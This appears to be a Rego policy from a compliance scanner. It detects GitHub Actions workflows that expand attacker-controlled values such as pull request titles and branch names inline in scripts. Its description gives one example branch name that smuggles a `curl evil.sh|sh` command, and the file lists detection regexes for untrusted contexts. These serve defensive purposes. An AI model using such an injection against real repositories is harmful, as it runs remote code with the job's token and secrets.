# METADATA
# title: Workflow scripts do not expand attacker-controlled values inline
# description: >-
#   A `run:` script, or the `script:` of `actions/github-script`, must not expand an
#   expression whose value anyone can choose: the title, body or branch name of a pull
#   request or issue, a comment or review body, a commit message or author, a discussion,
#   a wiki page name (`github.event.pull_request.title`, `.body`, `.head.ref`,
#   `.head.label`, `github.event.issue.*`, `github.event.comment.body`,
#   `github.event.review.body`, `github.head_ref`, `github.event.head_commit.message`,
#   `github.event.commits.*.message`, `github.event.workflow_run.head_branch`, ...).
#   GitHub substitutes `${{ }}` into the script text before the shell runs it, so a
#   branch named `a";curl evil.sh|sh;"` runs that command with the job's token and
#   secrets. Each such expression is reported on the script line that holds it.
#   Expressions of other contexts (inputs, secrets, `github.sha`, step outputs) are not
#   reported.
# custom:
#   id: github-workflow-script-injection
#   severity: high
#   controls: [CC6.1, CC8.1]
#   resource_types: [github_actions_workflow]
#   remediation: |
#     Pass the value through an environment variable, which the shell does not parse as
#     code, and quote it:
#
#     ```yaml
#     - name: Check the title
#       env:
#         TITLE: ${{ github.event.pull_request.title }}
#       run: |
#         if [[ "$TITLE" =~ ^feat ]]; then echo "feature"; fi
#     ```
package soc2gate.github.workflow.script_injection

import data.soc2gate.lib.core
import data.soc2gate.lib.github.workflow

# Contexts whose value the author of an issue, pull request, comment or commit chooses.
_untrusted := [
	`github\.event\.(issue|pull_request|discussion)\.(title|body)`,
	`github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)`,
	`github\.event\.(comment|review|review_comment)\.body`,
	`github\.head_ref`,
	`github\.event\.head_commit\.(message|author\.(name|email)|committer\.(name|email))`,
	`github\.event\.commits\b.*\.(message|author\.(name|email)|committer\.(name|email))`,
	`github\.event\.workflow_run\.(head_branch|head_commit\.(message|author\.(name|email)|committer\.(name|email)))`,
	`github\.event\.workflow_run\.pull_requests\b.*\.head\.ref`,
	`github\.event\.pages\b.*\.page_name`,
]

deny contains v if {
	some w in workflow.workflows
	some [path, script] in _scripts(w)
	some k, expression in workflow.expressions(script)
	_attacker_controlled(expression)
	v := core.violation(w, core.path_text(array.concat(path, [k])), sprintf(
		"a script of %s expands %s inline, a value anyone opening an issue or pull request can choose, so it can inject shell commands; pass it through env: and use the variable",
		[workflow.describe(w), expression],
	))
}

# `run:` scripts and `actions/github-script` scripts, as [path, text].
_scripts(w) := array.concat(
	[[path, run] |
		some s in workflow.steps(w)
		run := object.get(s.step, "run", null)
		is_string(run)
		path := array.concat(s.path, ["run"])
	],
	[[path, script] |
		some s in workflow.steps(w)
		workflow.action(object.get(s.step, "uses", "")) == "actions/github-script"
		script := object.get(s.step, ["with", "script"], null)
		is_string(script)
		path := array.concat(s.path, ["with", "script"])
	],
)

_attacker_controlled(expression) if {
	some pattern in _untrusted
	regex.match(pattern, expression)
}

# A reusable workflow's inputs come from its callers, which may pass an attacker's
# value; and scripts a template engine fills in.
undetermined contains v if {
	some w in workflow.workflows
	"workflow_call" in workflow.triggers(w)
	some [path, script] in _scripts(w)
	some k, expression in workflow.expressions(script)
	not _attacker_controlled(expression)
	regex.match(`\binputs\.`, expression)
	v := core.violation(w, core.path_text(array.concat(path, [k])), sprintf(
		"%s is chosen by the callers of this reusable workflow, which the scan cannot see, so the rule could not judge it",
		[expression],
	))
}

undetermined contains v if {
	some w in workflow.workflows
	some s in workflow.steps(w)
	some v in core.unknown_at(w, [array.concat(s.path, ["run"]), array.concat(s.path, ["with", "script"])])
}
